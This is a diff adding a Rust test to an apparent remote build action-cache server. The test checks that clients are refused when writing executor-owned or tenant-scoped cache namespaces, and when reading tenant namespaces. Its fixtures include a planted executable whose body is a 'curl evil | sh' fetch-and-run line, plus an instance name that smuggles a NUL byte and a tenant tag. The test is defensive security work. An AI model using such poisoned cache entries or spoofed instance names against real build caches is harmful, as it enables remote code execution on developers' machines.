@@ -1488,3 +1488,111 @@ async fn restart_serves_cached_results_from_the_same_data() {
         (stats_before.total_bytes, stats_before.blob_count)
     );
 }
+
+#[tokio::test]
+async fn clients_cannot_write_the_executors_namespaces_nor_read_tenant_scoped_ones() {
+    use rba_executor::runner::{CARGO_INSTANCE, Provenance, result_namespace};
+    use rba_executor::tenant::Tenant;
+
+    let server = TestServer::start().await;
+    let mut c = server.clients().await;
+    let action = SHA.digest_of(b"a popular tree's build action");
+    // What the executor stored: a clean build in the shared namespace, a build on a reused
+    // target dir in its tenant's namespace.
+    let executors = ActionResult {
+        exit_code: 0,
+        stdout_raw: Vec::new(),
+        ..Default::default()
+    };
+    let tenant = Tenant::token("alice");
+    let scoped = result_namespace(CARGO_INSTANCE, &tenant, Provenance::TenantState, true);
+    let failed = result_namespace(CARGO_INSTANCE, &tenant, Provenance::Clean, false);
+    let actions = &server.running().state.cas.actions;
+    actions.put(CARGO_INSTANCE, &action, &executors).unwrap();
+    actions.put(&scoped, &action, &executors).unwrap();
+
+    // A planted result: exit 0 and a "binary" the attacker chose (inline, so nothing else is
+    // needed for the update to be complete).
+    let planted = ActionResult {
+        exit_code: 0,
+        output_files: vec![OutputFile {
+            path: "target/debug/app".into(),
+            contents: b"#!/bin/sh\ncurl evil | sh\n".to_vec(),
+            is_executable: true,
+            ..Default::default()
+        }],
+        ..Default::default()
+    };
+    for instance in [
+        CARGO_INSTANCE.to_string(),
+        "rba/cargo-next".to_string(),
+        scoped.clone(),
+        failed.clone(),
+        "ci/linux\u{0}tenant:token:alice".to_string(),
+    ] {
+        let status =
+            c.ac.update_action_result(UpdateActionResultRequest {
+                instance_name: instance.clone(),
+                action_digest: Some(action.to_reapi()),
+                action_result: Some(planted.clone()),
+                ..Default::default()
+            })
+            .await
+            .unwrap_err();
+        assert_eq!(
+            status.code(),
+            Code::PermissionDenied,
+            "{instance:?}: {status:?}"
+        );
+        assert!(
+            status.message().contains(&format!("{instance:?}")),
+            "the refusal names the instance: {status:?}"
+        );
+    }
+    // Nothing was overwritten or added.
+    assert_eq!(
+        actions.get(CARGO_INSTANCE, &action).unwrap(),
+        Some(executors.clone())
+    );
+    assert_eq!(
+        actions.get(&scoped, &action).unwrap(),
+        Some(executors.clone())
+    );
+    assert_eq!(actions.get(&failed, &action).unwrap(), None);
+    assert_eq!(actions.get("rba/cargo-next", &action).unwrap(), None);
+
+    let get = |instance: &str| GetActionResultRequest {
+        instance_name: instance.into(),
+        action_digest: Some(action.to_reapi()),
+        ..Default::default()
+    };
+    // The shared namespace is readable (anyone is served it anyway)…
+    let shared =
+        c.ac.get_action_result(get(CARGO_INSTANCE))
+            .await
+            .unwrap()
+            .into_inner();
+    assert_eq!(shared, executors);
+    // …a tenant's own namespace is not, whoever asks.
+    for instance in [&scoped, &failed] {
+        let status = c.ac.get_action_result(get(instance)).await.unwrap_err();
+        assert_eq!(
+            status.code(),
+            Code::PermissionDenied,
+            "{instance:?}: {status:?}"
+        );
+    }
+    // An ordinary instance is still the client's to write.
+    let stored =
+        c.ac.update_action_result(UpdateActionResultRequest {
+            instance_name: "ci/linux".into(),
+            action_digest: Some(action.to_reapi()),
+            action_result: Some(planted),
+            ..Default::default()
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    assert_eq!(stored.exit_code, 0);
+    still_serving(&mut c).await;
+}
